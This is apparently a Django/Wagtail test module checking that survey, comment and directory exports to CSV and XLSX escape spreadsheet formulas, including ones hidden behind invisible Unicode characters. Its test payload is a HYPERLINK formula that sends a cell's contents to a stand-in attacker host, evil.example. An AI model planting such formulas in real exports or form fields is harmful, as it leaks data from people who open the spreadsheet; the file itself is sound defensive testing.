"""Formula injection in every export (issue 13): Wagtail's own export of survey answers
wrote an anonymous answer "=..." as a live formula, and a formula behind an invisible
character (U+200E, U+200B, U+FEFF, bidirectional controls) got through our own."""

import csv
import io

import pytest
from openpyxl import load_workbook

from django.contrib.auth import get_user_model
from django.urls import reverse

from consultations.factories import CommentFactory
from core.spreadsheets import spreadsheet_safe
from directory.factories import OrganisationPageFactory, ServicePageFactory
from tests.consultations.test_surveys import answers, municipality, survey  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

INVISIBLE_LEADS = ["", "\u200e", "\u200b", "\ufeff", "\u202a", "\u202e", "\u2066", "\u2069", "\u200e\u200b "]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("lead", INVISIBLE_LEADS)
def test_a_formula_behind_invisible_characters_is_neutralised(lead):
    assert spreadsheet_safe(lead + FORMULA) == "'" + lead + FORMULA
    assert spreadsheet_safe(lead + "+1+1") == "'" + lead + "+1+1"


@pytest.mark.parametrize("value", ["Κοινωνικό παντοπωλείο", "\u200eμε σήμανση", "a=b", 42, None, "", "\u200e"])
def test_plain_values_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def superuser_client(client):
    client.force_login(get_user_model().objects.create_superuser("admin", "admin@example.org", "pw"))
    return client


def _csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("lead", ["", "\u200e"])
def test_wagtails_export_of_survey_answers_is_formula_safe(superuser_client, survey, municipality, lead):  # noqa: F811
    hostile = lead + FORMULA
    assert superuser_client.post(survey.url, answers(municipality, scholia=hostile)).status_code == 302
    url = reverse("wagtailforms:list_submissions", args=[survey.pk])
    response = superuser_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    rows = _csv_rows(response)
    assert "'" + hostile in rows[1]
    assert not any(cell.lstrip("\u200e").startswith("=") for row in rows for cell in row)
    xlsx = superuser_client.get(url, {"export": "xlsx"})
    cells = [
        cell for row in load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active.iter_rows() for cell in row
    ]
    assert "'" + hostile in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize("lead", ["\u200e", "\u200b", "\ufeff", "\u202e"])
def test_our_comment_exports_neutralise_a_formula_behind_an_invisible_character(client, consultation, lead):
    CommentFactory(consultation=consultation, status="approved", text=lead + FORMULA, author_name=lead + "@SUM(A1)")
    response = client.get(consultation.url + "export/csv/")
    rows = _csv_rows(response)
    assert rows[1][6] == "'" + lead + FORMULA and rows[1][4] == "'" + lead + "@SUM(A1)"
    workbook = load_workbook(io.BytesIO(client.get(consultation.url + "export/xlsx/").content))
    row = list(workbook.active.iter_rows())[1]
    assert row[6].value == "'" + lead + FORMULA and all(cell.data_type != "f" for cell in row)


def test_the_unverified_listings_export_is_formula_safe(superuser_client, directory_page):
    organisation = OrganisationPageFactory(title="Δήμος Κοζάνης")
    ServicePageFactory(parent=organisation, title="\u200e=1+1", assured_date=None)
    response = superuser_client.get(reverse("directory_stale_listings"), {"export": "csv"})
    assert response.status_code == 200
    assert "'\u200e=1+1" in [cell for row in _csv_rows(response) for cell in row]
